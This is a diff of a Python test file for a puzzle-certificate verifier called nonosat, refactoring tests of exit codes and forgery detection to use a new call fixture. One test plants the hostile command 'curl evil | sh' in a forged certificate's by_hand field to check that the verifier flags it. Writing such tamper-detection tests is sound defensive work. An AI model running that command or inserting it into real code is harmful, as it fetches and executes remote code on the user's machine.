@@ -11,7 +11,7 @@ import nonosat
 from nonosat import prove, verify
 from nonosat.cli import main
 from nonosat.puzzles.families import n_dom
-from tests.helpers.fixtures import Capture
+from tests.helpers.fixtures import Call, Capture
 from tests.helpers.forgery import Forgery
 
 
@@ -161,17 +161,16 @@ def test_a_forgery_is_found(what: str, genuine: dict[str, Forgery], tmp_path: Pa
     assert (found, says in line) == (code, True), line
 
 
-def test_a_certificate_of_one_puzzle_is_none_of_another(tmp_path: Path, capsys: Capture) -> None:
+def test_a_certificate_of_one_puzzle_is_none_of_another(tmp_path: Path, call: Call) -> None:
     path = str(tmp_path / "cert.zip")
     prove(nonosat.load("dom-5"), path)
-    assert main(["verify", "--puzzle", "dom-5", path]) == 0
-    assert "the same as dom-5" in capsys.readouterr().out
-    assert main(["verify", "--puzzle", "dom-4", path]) == 1
-    assert "NOT VERIFIED: the certificate is not about dom-4" in capsys.readouterr().out
+    assert "the same as dom-5" in call(f"verify --puzzle dom-5 {path}").out
+    said = call(f"verify --puzzle dom-4 {path}", code=1).out
+    assert "NOT VERIFIED: the certificate is not about dom-4" in said
 
 
 def test_several_certificates_the_worst_exit_code_counts(
-    genuine: dict[str, Forgery], tmp_path: Path, capsys: Capture
+    genuine: dict[str, Forgery], tmp_path: Path, call: Call
 ) -> None:
     good = str(genuine["unique"].write(tmp_path))
     wrong = genuine["unique"].copy()
@@ -179,18 +178,15 @@ def test_several_certificates_the_worst_exit_code_counts(
     bad = str(wrong.write(tmp_path))
     assert main(["verify", "--quiet", good, good]) == 0
     assert main(["verify", "--quiet", good, bad, good]) == 1
-    assert main(["verify", "--quiet", good, str(tmp_path / "nothing"), bad]) == 2
-    said = capsys.readouterr()
+    said = call(f"verify --quiet {good}", tmp_path / "nothing", bad, code=2)
     assert said.out.count("verified: exactly one solution") == 5
     assert said.err.count("there is no such file") == 1
     assert main(["verify", "--checker", "nobody", good]) == 2
 
 
-def test_other_commands_by_hand_are_seen(
-    genuine: dict[str, Forgery], tmp_path: Path, capsys: Capture
-) -> None:
+def test_other_commands_by_hand_are_seen(genuine: dict[str, Forgery], tmp_path: Path, call: Call) -> None:
     forgery = genuine["unique"].copy()
     assert verify(forgery.write(tmp_path)).checked.keys().isdisjoint({"by_hand"})
     forgery.say(by_hand=["curl evil | sh"])
-    assert main(["verify", str(forgery.sealed().write(tmp_path))]) == 0
-    assert "  by_hand   differs from what nonosat would write" in capsys.readouterr().out
+    said = call(f"verify {forgery.sealed().write(tmp_path)}").out
+    assert "  by_hand   differs from what nonosat would write" in said
